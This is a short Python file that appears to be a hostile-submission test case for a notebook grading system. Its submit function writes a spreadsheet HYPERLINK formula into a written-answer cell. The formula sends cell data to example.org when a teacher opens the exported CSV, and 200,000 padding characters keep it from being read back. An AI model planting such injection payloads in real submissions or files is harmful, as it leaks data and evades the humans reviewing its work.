"""An answer in words that a spreadsheet runs when the teacher opens written.csv, and that is too long to be read back.

wins without: output
"""


def submit(inbox, name, notebook, course):
    written = next(
        cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == "ps1-written"
    )
    written.source = '=HYPERLINK("http://example.org/?"&A1,"see")\0' + "x" * 200_000
    return notebook
